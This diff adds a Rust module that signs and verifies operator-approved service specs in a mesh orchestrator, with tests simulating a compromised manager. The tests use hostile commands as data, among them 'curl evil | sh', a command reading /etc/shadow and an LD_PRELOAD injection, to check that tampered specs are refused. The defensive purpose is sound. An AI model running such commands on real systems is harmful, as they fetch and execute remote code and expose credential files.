@@ -1,0 +1,355 @@
+//! Service specs signed by the operator, so that a manager cannot choose what a node runs.
+//!
+//! The operator makes an Ed25519 key pair with `meshctl spec-key create` and keeps the private
+//! half (no manager ever holds it); each node pins the public half when it joins (`meshd join
+//! --spec-key`), in its own state directory, where no manager can change it. `meshctl service
+//! create/update` signs a [`SpecDocument`] — the service's name, its command, how the command
+//! runs (environment, user, secrets, paths, limits) and its networks — and control stores and
+//! forwards the document and its signature untouched, one per version of the service's
+//! definition. A node that pins a key runs a command only when the signature verifies and the
+//! document says exactly what the slice asks for ([`verify_endpoint`]).
+
+use std::collections::BTreeSet;
+use std::path::Path;
+
+use aws_lc_rs::signature::{self, Ed25519KeyPair, KeyPair, UnparsedPublicKey};
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use serde::{Deserialize, Serialize};
+
+use crate::files::{self, FileError};
+use crate::model::{RunSpec, RunState};
+use crate::slice::LocalEndpoint;
+
+/// How a public key is written (and pinned).
+pub const PUBLIC_PREFIX: &str = "MESHSPEC-ED25519-1 ";
+/// How the private key file starts.
+const PRIVATE_PREFIX: &str = "MESHSPECKEY1 ";
+/// Prefixed to a document before it is signed: a signature here is never one of anything else.
+const CONTEXT: &[u8] = b"mesh service spec v1\0";
+/// The key files `spec-key create` writes in its directory.
+pub const PRIVATE_FILE: &str = "spec-signing.key";
+pub const PUBLIC_FILE: &str = "spec-signing.pub";
+/// Longest document a node reads.
+pub const MAX_DOCUMENT: usize = 64 << 10;
+
+#[derive(Debug, thiserror::Error)]
+pub enum SpecError {
+    #[error("not a spec-signing public key: expected `{PUBLIC_PREFIX}<base64 of 32 bytes>`")]
+    BadPublicKey,
+    #[error("{0} is not a spec-signing key made by `meshctl spec-key create`")]
+    BadPrivateKey(String),
+    #[error(transparent)]
+    File(#[from] FileError),
+    #[error("the signature does not verify against the pinned key")]
+    BadSignature,
+    #[error("the signed document cannot be read: {0}")]
+    BadDocument(String),
+    #[error("the signed document says {field} is {signed}, the slice asks for {asked}")]
+    Mismatch { field: &'static str, signed: String, asked: String },
+}
+
+/// What the operator signs: what defines a service's workload.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SpecDocument {
+    pub service: String,
+    pub command: Option<String>,
+    pub run: RunSpec,
+    /// Sorted, without duplicates.
+    pub networks: Vec<String>,
+    /// Unix seconds, when it was signed.
+    pub signed_at: i64,
+}
+
+impl SpecDocument {
+    pub fn new(
+        service: &str,
+        command: Option<String>,
+        run: RunSpec,
+        networks: &[String],
+        signed_at: i64,
+    ) -> SpecDocument {
+        let networks: BTreeSet<String> = networks.iter().cloned().collect();
+        SpecDocument {
+            service: service.to_owned(),
+            command,
+            run,
+            networks: networks.into_iter().collect(),
+            signed_at,
+        }
+    }
+
+    /// Whether it says what `service`, `command`, `run` and `networks` say; the error names the
+    /// first difference.
+    pub fn matches(
+        &self,
+        service: &str,
+        command: &Option<String>,
+        run: &RunSpec,
+        networks: &BTreeSet<String>,
+    ) -> Result<(), SpecError> {
+        let differ = |field, signed: String, asked: String| Err(SpecError::Mismatch { field, signed, asked });
+        if self.service != service {
+            return differ("the service", self.service.clone(), service.to_owned());
+        }
+        if &self.command != command {
+            return differ("the command", format!("{:?}", self.command), format!("{command:?}"));
+        }
+        if &self.run != run {
+            return differ("how it runs", format!("{:?}", self.run), format!("{run:?}"));
+        }
+        let signed: BTreeSet<String> = self.networks.iter().cloned().collect();
+        if &signed != networks {
+            return differ("its networks", format!("{signed:?}"), format!("{networks:?}"));
+        }
+        Ok(())
+    }
+}
+
+/// A document as signed, and its signature (base64): kept and sent byte for byte.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SignedSpec {
+    pub document: String,
+    pub signature: String,
+}
+
+impl SignedSpec {
+    /// The document, read without checking the signature (what control does: it holds no key).
+    pub fn read(&self) -> Result<SpecDocument, SpecError> {
+        if self.document.len() > MAX_DOCUMENT {
+            return Err(SpecError::BadDocument(format!("longer than {MAX_DOCUMENT} bytes")));
+        }
+        serde_json::from_str(&self.document).map_err(|e| SpecError::BadDocument(e.to_string()))
+    }
+}
+
+fn signed_bytes(document: &str) -> Vec<u8> {
+    [CONTEXT, document.as_bytes()].concat()
+}
+
+/// The operator's private key.
+pub struct SigningKey(Ed25519KeyPair);
+
+impl SigningKey {
+    /// A fresh key, written to `dir` as [`PRIVATE_FILE`] (0600) and [`PUBLIC_FILE`]; refuses to
+    /// replace a key already there.
+    pub fn create(dir: &Path) -> Result<PinnedKey, SpecError> {
+        let private = dir.join(PRIVATE_FILE);
+        if private.exists() {
+            return Err(SpecError::BadPrivateKey(format!(
+                "{} exists already (a new key would make every node's pinned key useless)",
+                private.display()
+            )));
+        }
+        let pkcs8 = Ed25519KeyPair::generate_pkcs8(&aws_lc_rs::rand::SystemRandom::new())
+            .map_err(|_| SpecError::BadPrivateKey("a new key".into()))?;
+        let key = Ed25519KeyPair::from_pkcs8(pkcs8.as_ref())
+            .map_err(|_| SpecError::BadPrivateKey("a new key".into()))?;
+        std::fs::create_dir_all(dir).map_err(|e| FileError::new("creating", dir, e))?;
+        let text = format!("{PRIVATE_PREFIX}{}\n", STANDARD.encode(pkcs8.as_ref()));
+        files::write_atomic(&private, text.as_bytes(), files::SECRET)?;
+        let public = SigningKey(key).public();
+        files::write_atomic(&dir.join(PUBLIC_FILE), format!("{public}\n").as_bytes(), files::PUBLIC)?;
+        Ok(public)
+    }
+
+    pub fn load(path: &Path) -> Result<SigningKey, SpecError> {
+        let text = files::read_string(path)?;
+        let bad = || SpecError::BadPrivateKey(path.display().to_string());
+        let encoded = text.trim().strip_prefix(PRIVATE_PREFIX).ok_or_else(bad)?;
+        let pkcs8 = STANDARD.decode(encoded).map_err(|_| bad())?;
+        Ed25519KeyPair::from_pkcs8(&pkcs8).map(SigningKey).map_err(|_| bad())
+    }
+
+    pub fn public(&self) -> PinnedKey {
+        let bytes: [u8; 32] = self.0.public_key().as_ref().try_into().expect("an Ed25519 public key");
+        PinnedKey(bytes)
+    }
+
+    pub fn sign(&self, document: &SpecDocument) -> SignedSpec {
+        let document = serde_json::to_string(document).expect("a document serializes");
+        let signature = STANDARD.encode(self.0.sign(&signed_bytes(&document)).as_ref());
+        SignedSpec { document, signature }
+    }
+}
+
+/// The public key a node pins: the only one whose signatures it accepts.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct PinnedKey([u8; 32]);
+
+impl std::fmt::Display for PinnedKey {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{PUBLIC_PREFIX}{}", STANDARD.encode(self.0))
+    }
+}
+
+impl std::str::FromStr for PinnedKey {
+    type Err = SpecError;
+    fn from_str(text: &str) -> Result<PinnedKey, SpecError> {
+        let encoded = text.trim().strip_prefix(PUBLIC_PREFIX).ok_or(SpecError::BadPublicKey)?;
+        let bytes = STANDARD.decode(encoded.trim()).map_err(|_| SpecError::BadPublicKey)?;
+        Ok(PinnedKey(bytes.try_into().map_err(|_| SpecError::BadPublicKey)?))
+    }
+}
+
+impl PinnedKey {
+    /// The key in `text`, or in the file `text` names.
+    pub fn read(text: &str) -> Result<PinnedKey, SpecError> {
+        match text.parse() {
+            Ok(key) => Ok(key),
+            Err(_) if Path::new(text).is_file() => files::read_string(Path::new(text))?.parse(),
+            Err(e) => Err(e),
+        }
+    }
+
+    /// The document of `signed`, once its signature verifies.
+    pub fn verify(&self, signed: &SignedSpec) -> Result<SpecDocument, SpecError> {
+        if signed.document.len() > MAX_DOCUMENT {
+            return Err(SpecError::BadDocument(format!("longer than {MAX_DOCUMENT} bytes")));
+        }
+        let signature = STANDARD.decode(&signed.signature).map_err(|_| SpecError::BadSignature)?;
+        UnparsedPublicKey::new(&signature::ED25519, self.0)
+            .verify(&signed_bytes(&signed.document), &signature)
+            .map_err(|_| SpecError::BadSignature)?;
+        signed.read()
+    }
+}
+
+/// Whether a node pinning `key` may run `endpoint`'s command: signed by the key, and the document
+/// says exactly what the endpoint asks (its service, command, run spec and networks). The error
+/// is the state to report (`unsigned` or `bad-signature`) and why.
+pub fn verify_endpoint(key: &PinnedKey, endpoint: &LocalEndpoint) -> Result<(), (RunState, String)> {
+    let Some(signed) = &endpoint.signed else {
+        return Err((
+            RunState::Unsigned,
+            "its spec is not signed; this node runs only specs signed by its pinned key".into(),
+        ));
+    };
+    let document = key.verify(signed).map_err(|e| (RunState::BadSignature, e.to_string()))?;
+    let networks: BTreeSet<String> = endpoint.addresses.keys().cloned().collect();
+    document
+        .matches(&endpoint.service, &endpoint.command, &endpoint.run, &networks)
+        .map_err(|e| (RunState::BadSignature, e.to_string()))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeMap;
+    use std::net::Ipv4Addr;
+
+    use super::*;
+
+    fn endpoint(signed: Option<SignedSpec>) -> LocalEndpoint {
+        LocalEndpoint {
+            service: "api".into(),
+            slot: 1,
+            addresses: BTreeMap::from([("front".to_owned(), Ipv4Addr::new(10, 1, 0, 2))]),
+            version: 0,
+            command: Some("serve".into()),
+            run: RunSpec { env: vec!["A=1".into()], ..RunSpec::default() },
+            secrets: vec![],
+            signed,
+        }
+    }
+
+    fn document() -> SpecDocument {
+        let run = RunSpec { env: vec!["A=1".into()], ..RunSpec::default() };
+        SpecDocument::new("api", Some("serve".into()), run, &["front".into()], 1)
+    }
+
+    fn keys() -> (tempfile::TempDir, SigningKey, PinnedKey) {
+        let dir = tempfile::tempdir().unwrap();
+        let public = SigningKey::create(dir.path()).unwrap();
+        let key = SigningKey::load(&dir.path().join(PRIVATE_FILE)).unwrap();
+        (dir, key, public)
+    }
+
+    #[test]
+    fn a_signed_spec_verifies_and_the_key_files_are_as_pinned() {
+        let (dir, key, public) = keys();
+        assert_eq!(key.public(), public);
+        let text = std::fs::read_to_string(dir.path().join(PUBLIC_FILE)).unwrap();
+        assert_eq!(PinnedKey::read(text.trim()).unwrap(), public);
+        let path = dir.path().join(PUBLIC_FILE);
+        assert_eq!(PinnedKey::read(path.to_str().unwrap()).unwrap(), public, "or the file that holds it");
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(dir.path().join(PRIVATE_FILE)).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+        assert!(SigningKey::create(dir.path()).is_err(), "an existing key is never replaced");
+        assert_eq!(verify_endpoint(&public, &endpoint(Some(key.sign(&document())))), Ok(()));
+    }
+
+    /// What a compromised manager could send a node that pins the operator's key.
+    #[test]
+    fn a_spec_the_operator_did_not_sign_as_sent_is_refused() {
+        let (_dir, key, public) = keys();
+        let (_other_dir, other, _) = keys();
+        let good = key.sign(&document());
+        let refused = |e: LocalEndpoint| verify_endpoint(&public, &e).unwrap_err();
+
+        // No signature at all.
+        assert_eq!(refused(endpoint(None)).0, RunState::Unsigned);
+        // Signed by another key (a manager's own, say).
+        assert_eq!(refused(endpoint(Some(other.sign(&document())))).0, RunState::BadSignature);
+        // The signed bytes changed: the command, or a byte of whitespace.
+        let mut tampered = good.clone();
+        tampered.document = tampered.document.replace("serve", "curl evil | sh");
+        assert_eq!(refused(endpoint(Some(tampered))).0, RunState::BadSignature);
+        let mut spaced = good.clone();
+        spaced.document.push(' ');
+        assert_eq!(refused(endpoint(Some(spaced))).0, RunState::BadSignature);
+        // A signature that is not base64, empty, or of another document.
+        for signature in [
+            "%%%".to_owned(),
+            String::new(),
+            key.sign(&SpecDocument { signed_at: 2, ..document() }).signature,
+        ] {
+            let forged = SignedSpec { signature, ..good.clone() };
+            assert_eq!(refused(endpoint(Some(forged))).0, RunState::BadSignature);
+        }
+        // A good signature sent with an endpoint asking for something else: another command,
+        // environment, user, writable path, network, or another service's name.
+        let mut e = endpoint(Some(good.clone()));
+        e.command = Some("sh -c 'cat /etc/shadow'".into());
+        assert!(refused(e).1.contains("the command"));
+        let mut e = endpoint(Some(good.clone()));
+        e.run.env.push("LD_PRELOAD=/tmp/x.so".into());
+        assert!(refused(e).1.contains("how it runs"));
+        let mut e = endpoint(Some(good.clone()));
+        e.run.user = "1000".into();
+        assert!(refused(e).1.contains("how it runs"));
+        let mut e = endpoint(Some(good.clone()));
+        e.run.writable.push("/etc".into());
+        assert!(refused(e).1.contains("how it runs"));
+        let mut e = endpoint(Some(good.clone()));
+        e.addresses.insert("admin".into(), Ipv4Addr::new(10, 2, 0, 2));
+        assert!(refused(e).1.contains("networks"));
+        let mut e = endpoint(Some(good.clone()));
+        e.service = "billing".into();
+        assert!(refused(e).1.contains("the service"));
+        // A document with a field the node does not know, signed: refused, not ignored.
+        let extra = SignedSpec {
+            document: good.document.replacen('{', "{\"privileged\":true,", 1),
+            signature: String::new(),
+        };
+        let document = extra.document.clone();
+        let signature = STANDARD.encode(key.0.sign(&signed_bytes(&document)).as_ref());
+        assert!(refused(endpoint(Some(SignedSpec { document, signature }))).1.contains("cannot be read"));
+        // Huge.
+        let huge = SignedSpec { document: "x".repeat(MAX_DOCUMENT + 1), signature: good.signature.clone() };
+        assert_eq!(refused(endpoint(Some(huge))).0, RunState::BadSignature);
+    }
+
+    #[test]
+    fn keys_that_are_not_keys_are_refused() {
+        for text in
+            ["", "MESHSPEC-ED25519-1 ", "MESHSPEC-ED25519-1 AAAA", "ssh-ed25519 AAAAC3Nza", "/nonexistent"]
+        {
+            assert!(PinnedKey::read(text).is_err(), "{text:?}");
+        }
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("k"), "MESHSPECKEY1 bm90IGEga2V5").unwrap();
+        assert!(SigningKey::load(&dir.path().join("k")).is_err());
+    }
+}
